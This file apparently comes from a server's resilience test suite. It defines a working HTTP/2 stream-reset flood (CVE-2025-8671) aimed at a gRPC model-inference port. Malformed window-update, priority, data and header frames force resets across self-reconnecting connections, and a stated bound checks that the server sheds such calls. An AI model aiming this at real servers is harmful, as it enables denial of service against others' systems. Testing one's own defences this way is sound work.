import { defineAttack, MODEL_INFER } from '../../hostile-client.js';
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  grpcMessage,
  inferRequest,
  PREFACE,
  requestHeaders,
  settings,
  uint32,
  windowUpdate,
} from '../../http2-frames.js';

export const attack = defineAttack(import.meta.url, {
  does: 'complete calls, each followed by a frame that makes the server reset the stream (CVE-2025-8671)',
  bound: 'a reset call leaves every queue; a connection that breaks the rules is closed',
  port: 'grpc',
  run(client) {
    const message = grpcMessage(inferRequest('good word'));
    const faults: readonly ((stream: number) => Buffer)[] = [
      (stream) => windowUpdate(stream, 0),
      (stream) => Buffer.concat([windowUpdate(stream, 0x7fffffff), windowUpdate(stream, 0x7fffffff)]),
      (stream) => frame(FRAME.priority, 0, stream, Buffer.concat([uint32(stream), Buffer.of(1)])),
      (stream) => frame(FRAME.data, END_STREAM, stream, Buffer.of(0)),
      (stream) => frame(FRAME.priority, 0, stream, Buffer.alloc(3)),
      (stream) => frame(FRAME.headers, END_HEADERS, stream, requestHeaders(MODEL_INFER)),
    ];
    const send = (which: number): void => {
      const socket = client.socket();
      let next = 1;
      const write = (): void => {
        if (!client.isRunning || !socket.writable) return;
        const calls = Array.from({ length: 50 }, () => {
          const stream = next;
          next += 2;
          return [
            frame(FRAME.headers, END_HEADERS, stream, requestHeaders(MODEL_INFER)),
            frame(FRAME.data, END_STREAM, stream, message),
            faults[which]?.(stream) ?? Buffer.alloc(0),
          ];
        });
        if (socket.write(Buffer.concat(calls.flat()))) setTimeout(write, 20);
        else socket.once('drain', () => setTimeout(write, 20));
      };
      socket.write(Buffer.concat([PREFACE, settings()]));
      write();
      socket.once('close', () => setTimeout(() => client.isRunning && send(which), 50));
    };
    for (let count = 0; count < 12; count++) send(count % faults.length);
  },
});
